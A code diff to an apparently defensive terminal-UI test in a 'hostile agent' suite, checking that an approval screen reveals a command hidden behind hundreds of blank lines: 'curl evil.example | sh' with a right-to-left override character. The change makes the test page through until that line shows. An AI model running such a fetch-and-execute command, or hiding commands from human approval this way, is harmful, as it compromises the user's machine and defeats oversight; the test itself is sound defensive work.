@@ -45,10 +45,14 @@ describe.skipIf(process.platform !== 'linux' || !isTmuxReady())('a hostile agent
     expect(first).toMatch(
       /\n▌ │ execute: npm test # run[^\n]*\n▌ ┆ [\s\S]*\n▌ Rows 1 to \d+ of \d+\. Space: \d+ more below/,
     );
-    for (let page = 0; page < 12; page++) pane.press('Space');
-    await pane.until(
-      /‹501 blanks›[^│]*\n▌ │ ‹50 empty lines›\n▌ │ curl evil\.example \| sh‹U\+202E›\n▌ Rows \d+ to (\d+) of \1\./,
-    );
+    const end =
+      /‹501 blanks›[^│]*\n▌ │ ‹50 empty lines›\n▌ │ curl evil\.example \| sh‹U\+202E›\n▌ Rows \d+ to (\d+) of \1\./;
+    // As somebody does who looks at each page: on a busy machine, keys that come before the question is on the screen are for nothing.
+    await pane.until((screen) => {
+      if (end.test(screen)) return true;
+      pane.press('Space');
+      return false;
+    });
     pane.press('y');
     await pane.until('the answer was {"outcome":"selected","optionId":"yes"}');
   });
